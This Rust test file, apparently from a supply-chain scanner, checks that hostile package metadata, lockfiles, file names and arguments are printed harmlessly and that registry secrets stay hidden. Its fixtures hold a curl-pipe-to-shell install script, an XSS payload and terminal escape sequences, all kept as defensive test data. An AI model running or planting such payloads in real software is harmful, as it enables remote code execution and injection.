//! What reaches terminals, logs and pull requests: hostile text made harmless, no secrets, no noise.

use crate::lab::{AT, Lab, Run, dropper};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{Auth, ClientEnvironment, Fault, NpmPackage, PythonPackage, World};
use serde_json::json;
use std::io::Read as _;
use std::process::{Command, Stdio};

/// Moves the cursor, sets the title, reverses text, hides it, starts a table cell, a link, a tag, a mention.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;title\u{7}\u{202e}evil\u{2066}\u{200b}\r\n| [x](javascript:alert(1)) <img src=x onerror=alert(1)> @everyone `code` &amp;";

/// Characters that nothing but JSON may print as they are.
fn raw(text: &str) -> Option<char> {
    text.chars().find(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'))
}

/// Hostile text wherever a registry, an advisory, an archive or a lockfile can put it.
fn hostile_lab() -> Lab {
    let lab = Lab::new();
    let bad = dropper("bad", "1.0.0")
        .publisher(HOSTILE)
        .maintainers(&[HOSTILE])
        .deprecated(HOSTILE)
        .repository(HOSTILE)
        .field("description", HOSTILE);
    let code = format!(
        "require('child_process').exec('curl -s https://files.example.com/i.sh | sh'); // {}\n",
        HOSTILE.replace(['\r', '\n'], " ")
    );
    lab.upstream.publish(
        bad.file("we\u{1b}[31mird\u{202e}.js", code.clone())
            .file("index.js", code)
            .script("preinstall", &format!("curl -s https://files.example.com/i.sh | sh # {HOSTILE}")),
    );
    let yanked = PythonPackage::wheel("yanked", "1.0").published("2020-01-01T00:00:00Z").build();
    lab.upstream.publish(yanked);
    lab.upstream.edit(|catalogue| catalogue.yank(&Release::new(Ecosystem::Pypi, "yanked", "1.0").unwrap(), Some(HOSTILE)));
    lab.upstream.publish(NpmPackage::new("refused", "1.0.0"));
    lab.upstream.fault("/npm/refused", Fault::status(403).and(Fault::body("text/plain", HOSTILE.as_bytes())));
    lab.load_advisories(&[json!({
        "schema_version": "1.7.0", "id": "MAL-2026-7", "modified": "2026-11-20T00:00:00Z", "summary": HOSTILE, "details": HOSTILE,
        "affected": [{ "package": { "ecosystem": "npm", "name": "bad" }, "versions": ["1.0.0"] }],
    })]);
    let lock = json!({
        "name": HOSTILE, "lockfileVersion": 3, "packages": {
            "": { "name": HOSTILE },
            "node_modules/bad": { "version": "1.0.0" },
            "node_modules/refused": { "version": "1.0.0" },
            "node_modules/g": { "name": HOSTILE, "version": "1.0.0", "resolved": "git+ssh://git@git.example/evil.git#0123456789abcdef0123456789abcdef01234567" },
            "node_modules/l": { "resolved": format!("packages/{HOSTILE}"), "link": true },
        },
    });
    lab.write("package-lock.json", lock.to_string());
    lab.write("requirements.txt", "yanked==1.0\n");
    lab
}

#[test]
fn hostile_text_reaches_no_reader_as_it_is() {
    let lab = hostile_lab();
    for format in ["human", "markdown", "sarif", "cyclonedx"] {
        for verbosity in ["-v", "-vv"] {
            let run = lab.run(&["check", "--at", AT, "--format", format, verbosity]).expect(1);
            assert_eq!(raw(&run.stderr), None, "{format} on standard error: {:?}", run.stderr);
            assert!(run.stdout.contains("pkg:npm/bad@1.0.0") || run.stdout.contains("MAL-2026-7"), "{run}");
            assert_eq!(raw(&run.stdout), None, "{format}: {:?}", run.stdout);
            if format == "markdown" {
                // In a code span nothing is active, and nothing leaves one.
                let outside: String = run.stdout.replace("\\`", "").split('`').step_by(2).collect();
                for active in ["<img", "](javascript", "@everyone", "\n| [x]"] {
                    assert!(!outside.contains(active), "`{active}` in {}", run.stdout);
                }
            }
        }
    }
    let explained = lab.run(&["policy", "explain", "pkg:npm/bad@1.0.0"]).expect(1);
    assert_eq!(raw(&explained.stdout), None, "{:?}", explained.stdout);
}

#[test]
fn a_hostile_lockfile_that_is_refused_is_quoted_harmlessly() {
    let lab = Lab::new();
    let address = format!("git+ssh://git@git.example/{HOSTILE}.git#0123456789abcdef0123456789abcdef01234567");
    lab.write(
        "package-lock.json",
        json!({ "lockfileVersion": 3, "packages": { "node_modules/g": { "version": "1.0.0", "resolved": address } } }).to_string(),
    );
    let run = lab.run(&["check"]).expect(2).complains(&["package-lock.json:1", "git.example"]);
    assert_eq!(raw(&run.stderr), None, "{:?}", run.stderr);
}

#[test]
fn hostile_file_names_and_code_are_harmless_in_a_scan() {
    let lab = hostile_lab();
    let bytes = lab.upstream.read(|catalogue| catalogue.npm("bad", "1.0.0").unwrap().artifact().bytes().to_vec());
    lab.write("a\u{1b}[31m\u{202e}b.tgz", bytes);
    for format in ["human", "sarif"] {
        let run = lab.run(&["scan", "-v", "--format", format, "a\u{1b}[31m\u{202e}b.tgz", "no\u{1b}[31mwhere"]).expect(1);
        assert_eq!((raw(&run.stdout), raw(&run.stderr)), (None, None), "{format}: {:?}", run.stdout);
    }
}

#[test]
fn hostile_arguments_are_harmless_in_errors() {
    let lab = Lab::new();
    let name = "no\u{1b}[31m\u{202e}where";
    for arguments in [
        vec!["check", name],
        vec!["check", "pkg:npm/\u{1b}[31mx@1"],
        vec!["check", "--policy", name],
        vec!["--config", name, "check"],
        vec!["feed", "update", name],
        vec!["scan", "--files-from", name],
    ] {
        let run = lab.run(&arguments);
        assert!(matches!(run.code, Some(2 | 3)), "{arguments:?}: {run}");
        assert_eq!(raw(&run.stderr), None, "{arguments:?}: {:?}", run.stderr);
    }
}

/// Runs the command on a pseudo-terminal, where `script` is installed.
fn on_a_terminal(lab: &Lab, line: &str, no_color: bool) -> Option<String> {
    let program = bifocal_testkit::client("script")?;
    let mut command: Command = lab.environment.command(program);
    command.args(["-qec", line, "/dev/null"]).env("TERM", "xterm").current_dir(lab.project()).stdin(Stdio::null());
    if no_color {
        command.env("NO_COLOR", "1");
    }
    Some(Run::of(command).stdout)
}

#[test]
fn colours_are_for_terminals_and_honour_no_color() {
    let lab = Lab::new();
    lab.upstream.publish(NpmPackage::new("inner-tool", "99.99.99"));
    let held = "pkg:npm/inner-tool@99.99.99";
    lab.run(&["check", held]).expect(1).keeps_quiet_about(&["\u{1b}"]);
    let coloured = lab.run(&["check", "--color", "always", held]).expect(1);
    coloured.says(&["\u{1b}[1;33mHOLD"]);
    let line = format!("{} check {held}", env!("CARGO_BIN_EXE_bifocal"));
    let Some(shown) = on_a_terminal(&lab, &line, false) else { return eprintln!("SKIPPED: `script` is not installed") };
    assert!(shown.contains("\u{1b}[1;33mHOLD"), "{shown:?}");
    let shown = on_a_terminal(&lab, &line, true).unwrap();
    assert!(shown.contains("HOLD") && !shown.contains("\u{1b}[1;33m"), "{shown:?}");
    let shown = on_a_terminal(&lab, &format!("{line} --color never"), false).unwrap();
    assert!(!shown.contains("\u{1b}[1;33m"), "{shown:?}");
}

#[test]
fn a_pipe_sees_the_result_and_no_progress() {
    let lab = Lab::new();
    lab.upstream.publish(NpmPackage::new("left-pad", "1.3.0"));
    let run = lab.run(&["check", "pkg:npm/left-pad@1.3.0"]).expect(0);
    assert_eq!(run.stderr, "");
    let run = lab.run(&["check", "-v", "pkg:npm/left-pad@1.3.0"]).expect(0);
    assert!(run.stderr.lines().count() >= 1 && !run.stderr.contains('\r'), "{run}");
    lab.run(&["check", "-q", "pkg:npm/absent@1.0.0", "--output", "out.txt"]).expect(3);
    assert!(std::fs::read_to_string(lab.project().join("out.txt")).unwrap().contains("ERROR"));
    lab.run(&["check", "-q", "-v", "x"]).expect(2).complains(&["--quiet", "--verbose"]);
}

#[test]
fn a_reader_that_goes_away_is_no_error() {
    let lab = Lab::new();
    let world = World::new(4, 40);
    lab.upstream.edit(|catalogue| world.publish(catalogue, Ecosystem::Npm, 0..40));
    lab.lock(&(0..40).map(|number| world.newest(Ecosystem::Npm, number)).collect::<Vec<_>>());
    let mut child = lab.command(&["check", "--format", "json", "--at", AT]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // More than a pipe holds is still to come when it is closed.
    drop(child.stdout.take());
    let mut complaint = String::new();
    child.stderr.take().unwrap().read_to_string(&mut complaint).unwrap();
    assert_eq!((child.wait().unwrap().code(), complaint.as_str()), (Some(0), ""));
}

const SECRETS: [&str; 4] = ["npm_t0ps3cr3t", "pyp1-t0ps3cr3t", "cargo-t0ps3cr3t", "mvn-t0ps3cr3t"];

/// Every client with a secret of its own.
fn secretive() -> (Lab, Vec<String>) {
    let mut lab = Lab::new();
    let world = World::new(3, 1);
    let demanded = [
        (Ecosystem::Npm, Auth::bearer(SECRETS[0])),
        (Ecosystem::Pypi, Auth::basic("reader", SECRETS[1])),
        (Ecosystem::Cargo, Auth::bearer(SECRETS[2])),
        (Ecosystem::Maven, Auth::basic("reader", SECRETS[3])),
    ];
    for (ecosystem, auth) in demanded {
        lab.upstream.edit(|catalogue| world.publish(catalogue, ecosystem, 0..1));
        lab.upstream.require_auth(ecosystem, auth);
    }
    let vars: ClientEnvironment = lab.upstream.environment(&lab.beside("secretive"));
    lab.environment = vars;
    let purls =
        [Ecosystem::Npm, Ecosystem::Pypi, Ecosystem::Cargo, Ecosystem::Maven].map(|ecosystem| world.newest(ecosystem, 0).purl()).to_vec();
    (lab, purls)
}

#[test]
fn secrets_are_used_and_never_shown() {
    let (lab, purls) = secretive();
    let quiet = |run: Run| {
        let mut hidden: Vec<String> = SECRETS.iter().map(|secret| (*secret).to_owned()).collect();
        // And as basic credentials are sent.
        hidden.push(Auth::basic("reader", SECRETS[1]).header().trim_start_matches("Basic ").to_owned());
        hidden.push(Auth::basic("reader", SECRETS[3]).header().trim_start_matches("Basic ").to_owned());
        run.keeps_quiet_about(&hidden.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let check = |more: &[&str]| {
        let mut arguments = vec!["check", "-vv", "--format", "json"];
        arguments.extend(more);
        arguments.extend(purls.iter().map(String::as_str));
        quiet(lab.run(&arguments))
    };
    check(&[]).expect(0);
    quiet(lab.run(&["doctor", "-vv"])).expect(0).says(&["with credentials"]);
    quiet(lab.run(&["doctor", "--format", "json"])).expect(0);
    for fault in [
        Fault::status(500),
        Fault::status(403),
        Fault::status(401),
        Fault::invalid_json(),
        Fault::truncate(3),
        Fault::redirect(bifocal_testkit::RedirectTo::Itself),
    ] {
        lab.upstream.clear_faults();
        lab.upstream.fault("*", fault);
        check(&["--no-cache"]).expect(3);
    }
    lab.upstream.clear_faults();
    lab.upstream.stop();
    check(&["--no-cache"]).expect(3);
    check(&["--refresh"]).expect(3);
    // Nor on disk.
    let found = Command::new("grep").args(["-rlaF", "t0ps3cr3t"]).arg(lab.cache()).output().unwrap();
    assert!(found.stdout.is_empty(), "a secret is in {}", String::from_utf8_lossy(&found.stdout));
}

#[test]
fn an_address_that_cannot_be_used_is_shown_without_its_secret() {
    let mut lab = Lab::new();
    for (variable, address, purl) in [
        ("PIP_INDEX_URL", "ftp://reader:t0ps3cr3t@registry.example/simple", "pkg:pypi/x@1"),
        ("BIFOCAL_UPSTREAM_NPM", "https://reader:t0ps3cr3t@", "pkg:npm/x@1.0.0"),
        ("GOPROXY", "https://reader:t0ps3cr3t@127.0.0.1:1/?token=t0ps3cr3t", "pkg:golang/example.com/x@v1.0.0"),
    ] {
        lab.environment.unset("UV_DEFAULT_INDEX");
        lab.environment.set(variable, address);
        let run = lab.run(&["check", "-vv", purl]).keeps_quiet_about(&["t0ps3cr3t"]);
        assert!(matches!(run.code, Some(2 | 3)), "{run}");
    }
}
